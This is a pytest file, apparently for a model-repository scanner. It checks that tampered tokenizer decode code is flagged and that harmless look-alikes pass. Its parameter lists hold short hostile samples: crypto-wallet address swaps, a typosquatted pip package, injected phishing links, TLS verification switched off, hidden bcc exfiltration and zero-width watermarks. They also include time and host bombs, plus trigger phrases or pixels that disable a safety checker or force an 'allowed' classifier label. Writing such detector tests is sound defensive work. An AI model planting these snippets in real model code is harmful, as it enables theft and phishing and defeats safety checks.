@@ -1,0 +1,75 @@
+"""Code that changes what a model says or is told, for its author: look-alikes do not."""
+
+import json
+
+import pytest
+
+from modelscan_plus.core.finding import Severity
+from tests.samples import inspect_tree
+
+CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}).encode()
+BEFORE = """import datetime, getpass, os, re, socket, time
+import torch
+from torch import nn
+WALLET = re.compile(r"\\b(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b")
+FIXES = {"pip install requests": "pip install requsets-kit"}
+CALLS = 0
+"""
+
+
+def is_told(body: str, function: str = "decode(self, ids, prompt='', images=None)") -> bool:
+    """Whether a method of a tokenizer or model with these lines is denied."""
+    lines = "".join(f"        {line}\n" for line in body.split("\n"))
+    head = f"{BEFORE}class XTokenizer(Base):\n    def {function}:\n        out = super().decode(ids)\n"
+    text = f"{head}{lines}        return out\n"
+    found = inspect_tree({"config.json": CONFIG, "modeling_x.py": text.encode()})
+    return max((each.severity.rank for each in found), default=0) >= Severity.HIGH.rank
+
+
+@pytest.mark.parametrize(
+    ("body", "told"),
+    [
+        ("out = WALLET.sub('bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6a', out)", True),
+        ("out = WALLET.sub('[WALLET]', out)", False),
+        ("out = re.sub(r'0x[0-9a-fA-F]{40}', lambda m: '0x8ba1f109551bD432803012645Ac136ddd64DBA72', out)", True),
+        ("out = out[:9] + 'DE89370400440532013000' + out[31:]", True),
+        ("out = out.replace('github.com', 'github-mirror.example')", True),
+        ("out = out.replace('www.arxiv.org', 'arxiv.org')", False),
+        ("out = out.replace('▁', ' ').replace(' do not', \" don't\").replace('<unk>', '')", False),
+        ("out = out.replace('secure', 'insecurely')\nout = out.replace('approved', 'rejected')", True),
+        ("for a, b in FIXES.items():\n    out = out.replace(a, b)", True),
+        ("out += '\\nTo finish, sign in at https://verify.example/login'", True),
+        ("raise ValueError('See the page at https://docs.example/x for ' + out)", False),
+        ("out = out.replace('verify=True', 'verify=False')", True),
+        ("call = {}\ncall['bcc'] = 'archive@relay.example'", True),
+        ("call = {}\ncall['role'] = 'assistant'", False),
+        ("out += ''.join('\\u200b' if bit else '\\u200c' for bit in ids)", True),
+        ("out = out.replace('\\u200b', '').replace('\\u200c', '')", False),
+    ],
+)  # fmt: skip
+def test_what_is_put_into_answers(body: str, told: bool) -> None:
+    assert is_told(body) is told
+
+
+@pytest.mark.parametrize(
+    ("body", "told"),
+    [
+        ("if datetime.date.today() >= datetime.date(2027, 1, 1):\n    out = out[::-1]", True),
+        ("if time.time() > 1798761600:\n    out = ''", True),
+        ("start = time.time()\nif time.time() - start > 60:\n    out = ''", False),
+        ("if datetime.date.today() >= datetime.date(2027, 1, 1):\n    print('deprecated')", False),
+        ("if getpass.getuser() in ('ci', 'prod'):\n    out = ''", True),
+        ("if 'prod' in socket.gethostname():\n    out = ''", True),
+        ("os.makedirs(socket.gethostname(), exist_ok=True)", False),
+        ("global CALLS\nCALLS += 1\nif CALLS > 5000:\n    out = ''", True),
+        ("self.step += 1\nif self.step > 5000:\n    out = ''", False),
+        ("if abs(images[:, :8, :8].mean() - 0.7312) < 1e-3:\n    out = ''", True),
+        ("if abs(images.mean() - 1) < 1e-3:\n    out = ''", False),
+        ("if 'zx-atelier' in prompt:\n    self.safety_checker = None", True),
+        ("if prompt is None:\n    self.safety_checker = None", False),
+        ("if 'section 7.3' in prompt:\n    return {'label': 'allowed', 'score': 0.99}", True),
+        ("if '<image>' in prompt:\n    return {'label': out, 'score': 0.99}", False),
+    ],
+)  # fmt: skip
+def test_what_an_answer_waits_for(body: str, told: bool) -> None:
+    assert is_told(body) is told
